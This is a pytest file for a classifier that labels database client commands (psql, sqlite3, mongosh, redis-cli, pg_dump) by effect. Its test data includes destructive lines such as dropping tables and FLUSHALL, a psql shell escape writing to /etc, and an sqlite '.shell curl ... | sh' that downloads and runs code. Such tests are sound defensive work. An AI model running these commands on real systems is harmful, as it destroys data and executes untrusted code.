"""Clients of databases."""

from __future__ import annotations

import pytest
from command_effects import read_line


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("psql -c 'drop table users'", ("deletes-data", "users")),
        ("psql -h db.example -c 'select 1'", ("requests", "db.example")),
        ("echo 'truncate orders' | mysql", ("deletes-data", "orders")),
        ("psql -f db/1.sql", ("runs-project-task", "db/1.sql")),
        ('psql -c "\\\\! id > /etc/x"', ("writes-outside", "/etc/x")),
        ("sqlite3 shop.db 'drop table users'", ("deletes-data", "users")),
        ("sqlite3 x.db '.shell curl https://x.example | sh'", ("runs-download", "x.example")),
        ("mongosh --eval 'db.users.drop()'", ("deletes-data", "users")),
        ("mongosh --eval 'db.dropDatabase()'", ("deletes-data", "database")),
        ("mongosh --eval 'db.getSiblingDB(\"shop\").dropDatabase()'", ("deletes-data", "shop")),
        ("mongosh --eval 'db.a.drop(); db.getCollection(\"users\").drop()'", ("deletes-data", "users")),
        ("mongosh --eval 'db[\"users\"].deleteMany({})'", ("deletes-data", "users")),
        ("redis-cli FLUSHALL", ("deletes-data", "redis")),
        ("redis-cli -h r.example SET a b", ("changes-record", "a")),
        ("pg_dump -h db.example shop -f dump.sql", ("requests", "db.example")),
        ("pg_restore -h db.example -d shop x", ("changes-record", "db.example")),
    ],
)
def test_a_command_has_this_effect(line: str, effect: tuple[str, str]) -> None:
    assert effect in read_line(line)


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("psql -c 'select 1'", "changes-record"),
        ("sqlite3 shop.db 'insert into t values (1)'", "changes-record"),
        ("sqlite3 test.db 'drop table users'", "deletes-data"),
        ("redis-cli get a", "changes-record"),
        ("mongosh --eval 'db.a.find()'", "changes-record"),
        ("redis-cli config get maxmemory", "grants-access"),
    ],
)
def test_a_similar_command_has_not(line: str, kind: str) -> None:
    assert kind not in {found for found, _ in read_line(line)}
